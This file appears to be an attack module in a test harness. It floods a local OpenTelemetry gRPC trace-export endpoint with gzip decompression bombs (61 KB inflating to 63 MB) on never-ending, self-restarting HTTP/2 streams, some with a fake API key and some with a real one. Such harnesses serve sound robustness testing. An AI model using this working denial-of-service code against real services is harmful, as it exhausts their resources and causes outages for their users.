import { type ClientHttp2Session, connect } from "node:http2";
import { gzipSync } from "node:zlib";
import type { StartAttack } from "./attack.ts";

const streams = 20;
const madeUpToken = `gaffe_${"a".repeat(48)}`;

/**
 * 20 gRPC calls of 61 KB that inflate to 63 MB, which the client never ends: ten with a made-up token, which are refused
 * by their headers, and ten with the attacker's or as a local program, whose messages are awaited until their deadline.
 * A call that the service ends is begun again after half a second.
 */
export const neverEndingStreams: StartAttack = ({ grpcPort, token }, count) => {
  const message = framedBomb();
  const sessions = new Set<ClientHttp2Session>();
  const timers = new Set<NodeJS.Timeout>();
  let isOver = false;
  for (let stream = 0; stream < streams; stream++) begin(stream % 2 === 0 ? madeUpToken : token);
  return () => {
    isOver = true;
    for (const timer of timers) clearTimeout(timer);
    for (const session of sessions) session.destroy();
  };

  function begin(presented: string): void {
    const session = connect(`http://127.0.0.1:${grpcPort}`);
    sessions.add(session);
    session.on("error", () => undefined);
    session.once("close", () => {
      sessions.delete(session);
      if (isOver) return;
      const timer = setTimeout(() => {
        timers.delete(timer);
        begin(presented);
      }, 500);
      timers.add(timer);
    });
    const call = session.request({
      ":method": "POST",
      ":path": "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
      "content-type": "application/grpc",
      "grpc-encoding": "gzip",
      te: "trailers",
      ...(presented === "" ? {} : { "api-key": presented }),
    });
    call.on("error", () => undefined);
    call.on("response", (headers) => count(`grpc-status ${String(headers["grpc-status"])}`));
    call.on("close", () => session.destroy());
    call.resume();
    call.write(message);
  }
};

function framedBomb(): Buffer {
  const message = gzipSync(Buffer.alloc(63 * 2 ** 20));
  const prefix = Buffer.from([1, 0, 0, 0, 0]);
  prefix.writeUInt32BE(message.length, 1);
  return Buffer.concat([prefix, message]);
}
